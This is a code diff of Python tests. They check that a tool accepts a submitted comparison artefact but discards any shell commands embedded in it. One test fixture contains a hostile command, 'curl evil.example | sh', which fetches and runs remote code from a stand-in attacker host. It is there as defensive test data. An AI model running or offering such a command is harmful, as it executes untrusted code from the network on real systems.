@@ -367,11 +367,11 @@ def test_an_archive_is_unpacked_within_bounds(
 # Comparisons, whose author may have written all of it.
 
 
-def compared(tmp_path: Path, **sent: Artefact | bytes) -> Acceptance:
+def compared(tmp_path: Path, **sent: Artefact | bytes) -> Any:
     for name, value in sent.items():
         content = value if isinstance(value, bytes) else files.encode(value)
         files.replace(tmp_path / "in" / f"{name}.json", content)
-    return incoming.comparison(tmp_path / "in", tmp_path / "out", BASE, HEAD)
+    return incoming.proposed(tmp_path / "in", BASE, HEAD)
 
 
 def side(name: str, **changes: Any) -> Comparison:
@@ -384,11 +384,9 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(
     evil = Commands(server="curl evil.example | sh", load="oha")
     cases = tuple(one.model_copy(update={"commands": evil}) for one in comparison().cases)
     code = attribution(comparison=comparison().id)
-    found = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
-    assert (found.exit_code, found.accepted) == (0, ("comparison.json", "attribution.json"))
-    read = incoming.read_comparison(tmp_path / "out" / "comparison.json", HEAD)
-    assert [one.commands for one in read.cases] == [None]
-    assert incoming.read_attribution(tmp_path / "out" / "attribution.json", read) == code
+    found, upgrade, read = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
+    assert [one.commands for one in found.cases] == [None]
+    assert (upgrade, read) == (None, code)
 
 
 @pytest.mark.parametrize(
@@ -413,10 +411,9 @@ def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(
 def test_a_comparison_of_something_else_is_refused(
     tmp_path: Path, sent: dict[str, Artefact | bytes], reason: str
 ) -> None:
-    found = compared(tmp_path, **sent)
-    assert found.exit_code == 3
-    assert reason in found.refused[0].reason
-    assert not (tmp_path / "out").exists()
+    with pytest.raises(ArtifactError) as refused:
+        compared(tmp_path, **sent)
+    assert reason in str(refused.value)
 
 
 # Confirmed changes.
@@ -528,8 +525,7 @@ def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
     ("words", "sentence"),
     [
         ("", "expected --from FOLDER with one of"),
-        ("--comparison --confirmed", "expected --from FOLDER with one of"),
-        ("--comparison --base main", "expected a commit as 40 hex digits, found 'main'"),
+        ("--plan night.json --confirmed", "expected --from FOLDER with one of"),
         ("--plan night.json --shard 4", "--shard"),
         ("--confirmed --shard 4", "--shard"),
     ],
